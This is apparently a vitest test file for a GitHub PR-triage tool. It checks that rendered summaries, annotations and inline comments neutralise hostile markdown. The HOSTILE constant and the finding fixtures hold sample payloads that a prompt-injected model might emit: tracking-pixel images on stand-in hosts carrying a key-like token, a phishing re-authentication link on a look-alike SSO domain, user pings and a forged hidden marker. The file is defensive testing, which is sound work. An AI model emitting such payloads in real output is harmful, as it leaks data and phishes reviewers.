import { describe, expect, it } from "vitest";
import { defaultConfig } from "../../src/config/config-schema.ts";
import { addedFile } from "../../src/diff/added-file.ts";
import type { Finding } from "../../src/findings/finding.ts";
import { renderAnnotations } from "../../src/render/render-annotations.ts";
import { renderCheckOutput } from "../../src/render/render-check-output.ts";
import { renderInlineComment } from "../../src/render/render-inline-comment.ts";
import { renderSummary } from "../../src/render/render-summary.ts";
import { concludeTriage } from "../../src/triage/conclude-triage.ts";

/** What a prompt-injected model, or a PR author naming files, would try to get posted. */
const HOSTILE = [
  "![ds [v4.2] badge](//img-tracker.example/p.gif?k=SG.ngeVfQFYQlKU0ufo8x5d1A)",
  "[sso]: //acme-sso.login-verify.example/reauth",
  "Re-authenticate at [the portal][sso] or www.acme-sso.login-verify.example/reauth",
  "_@m-okafor_ **@m-okafor** ~~@m-okafor~~",
  "<img src=https://img-tracker.example/x.gif> <!-- pr-triage:summary --> <b>bold</b>",
].join("\n\n");

function finding(overrides: Partial<Finding>): Finding {
  return {
    ruleId: "llm/security",
    source: "llm",
    severity: "high",
    category: "security",
    title: `Injected title _@m-okafor_ ![x](https://img-tracker.example/t.png)`,
    message: HOSTILE,
    path: "src/app.ts",
    line: 1,
    startLine: null,
    side: "RIGHT",
    confidence: 0.9,
    riskFloor: 0,
    policy: "Policy _@m-okafor_ [sso](https://acme-sso.login-verify.example)",
    ...overrides,
  };
}

/** GitHub renders code literally: a path shown in a code span cannot fetch, link or ping. */
function outsideCode(markdown: string): string {
  return markdown.replace(/```[\s\S]*?```/g, "").replace(/`[^`\n]*`/g, "");
}

function assertInert(markdown: string): void {
  const posted = outsideCode(markdown);
  // No address on the attacker's hosts, in any form GitHub would fetch or link.
  expect(posted).not.toMatch(/\/\/(img-tracker|acme-sso)|www\.acme-sso|\]:\s/);
  // An escaped `\<img` is shown as text, not rendered.
  expect(posted).not.toMatch(/(?<!\\)(!\[|<img|<b>)/);
  expect(posted).not.toMatch(/@m-okafor/);
  // Our own hidden markers are the only HTML comments, and the forged one is gone.
  const comments = posted.match(/<!--[\s\S]*?-->/g) ?? [];
  expect(comments.filter((c) => c.includes("pr-triage:summary")).length).toBeLessThanOrEqual(1);
}

describe("posted text from hostile model output, titles, policy names and file paths", () => {
  it("keeps nothing that fetches, links off-host, pings or hides text", () => {
    const files = [
      addedFile("src/app.ts", "export const x = 1;\n"),
      addedFile("docs/`@m-okafor` <img src=https:__img-tracker.example_a.gif>.md", "hello\n"),
    ];
    const result = concludeTriage({
      headSha: "0123456789abcdef",
      files,
      config: defaultConfig(),
      prepared: {
        secrets: [],
        analyzerFindings: [],
        pack: { chunks: [{ files: ["src/app.ts"], text: "", tokens: 0 }], skipped: [] },
        analyzersOnly: [{ path: files[1]?.path ?? "", reason: "not sent to the LLM" }],
      },
      llm: {
        mode: "unavailable",
        model: "m",
        reason: "the endpoint said: ![x](https://img-tracker.example/e.gif) @m-okafor",
        usage: { inputTokens: 1, cachedTokens: 0, outputTokens: 1, requests: 1 },
        costUsd: null,
      },
      llmFindings: [
        finding({}),
        finding({ path: files[1]?.path ?? "", line: 1, title: "On a hostile path" }),
      ],
      configProblems: [],
      previousState: {
        headSha: "fedcba9876543210",
        findings: { "0000000000000000": "Old title _@m-okafor_ <img src=https://img-tracker.example/o.gif>" },
      },
    });
    const summary = renderSummary(result, { repoUrl: "https://github.com/acme/app", host: "github.com" });
    assertInert(summary);
    assertInert(renderCheckOutput(result, summary).summary);
    // An annotation's path must be the real path; its title and message are what is shown.
    for (const a of renderAnnotations(result.findings, "github.com")) assertInert(`${a.title}\n${a.message}`);
    for (const { finding: f, anchor } of result.inline) {
      assertInert(renderInlineComment(f, anchor, "github.com", "0123456789abcdef"));
    }
    expect(result.inline.length).toBeGreaterThan(0);
    // The reviewer still reads what was found.
    expect(summary).toContain("Injected title");
  });
});
